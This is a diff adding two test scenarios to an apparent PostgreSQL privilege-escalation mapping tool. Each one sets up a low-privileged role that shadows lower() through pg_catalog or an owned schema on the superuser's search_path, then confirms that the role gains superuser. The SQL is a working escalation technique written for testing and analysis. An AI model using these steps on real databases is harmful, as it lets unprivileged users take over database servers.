@@ -153,6 +153,49 @@ pub(crate) const SCENARIOS: &[Scenario] = &[
         ],
     },
     Scenario {
+        name: "search_path_catalog",
+        claim: Claim::Edge(Mechanism::SearchPathSchema, End::Sink(Sink::Superuser)),
+        from: End::Role("search_path_catalog_low"),
+        own_database: true,
+        applies: Versions::ALL,
+        works: Versions::ALL,
+        scene: r#"
+            LOGIN search_path_catalog_low;
+            GRANT CREATE ON SCHEMA pg_catalog TO search_path_catalog_low;
+            CREATE TABLE search_path_catalog_t (v varchar); INSERT INTO search_path_catalog_t VALUES ('x');
+        "#,
+        acts: &[
+            Act::Low(
+                "search_path_catalog_low",
+                r#"CREATE FUNCTION pg_catalog.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('search_path_catalog_low'); RETURN $1; END $$"#,
+            ),
+            Act::Superuser(r#"SET search_path = ''; SELECT lower(v) FROM public.search_path_catalog_t"#),
+            Act::IsSuperuser("search_path_catalog_low"),
+        ],
+    },
+    Scenario {
+        name: "search_path_owned",
+        claim: Claim::Edge(Mechanism::SearchPathSchema, End::Sink(Sink::Superuser)),
+        from: End::Role("search_path_owned_low"),
+        own_database: true,
+        applies: Versions::ALL,
+        works: Versions::ALL,
+        scene: r#"
+            LOGIN search_path_owned_low;
+            CREATE SCHEMA search_path_owned AUTHORIZATION search_path_owned_low;
+            ALTER ROLE postgres IN DATABASE search_path_owned SET search_path = search_path_owned, pg_catalog;
+            CREATE TABLE public.search_path_owned_t (v varchar); INSERT INTO public.search_path_owned_t VALUES ('x');
+        "#,
+        acts: &[
+            Act::Low(
+                "search_path_owned_low",
+                r#"CREATE FUNCTION search_path_owned.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$ BEGIN PERFORM kit.grab('search_path_owned_low'); RETURN $1; END $$"#,
+            ),
+            Act::Superuser(r#"SELECT lower(v) FROM public.search_path_owned_t"#),
+            Act::IsSuperuser("search_path_owned_low"),
+        ],
+    },
+    Scenario {
         name: "search_path_elsewhere",
         claim: Claim::Edge(Mechanism::SearchPathSchema, End::Sink(Sink::Superuser)),
         from: End::Role("search_path_elsewhere_low"),
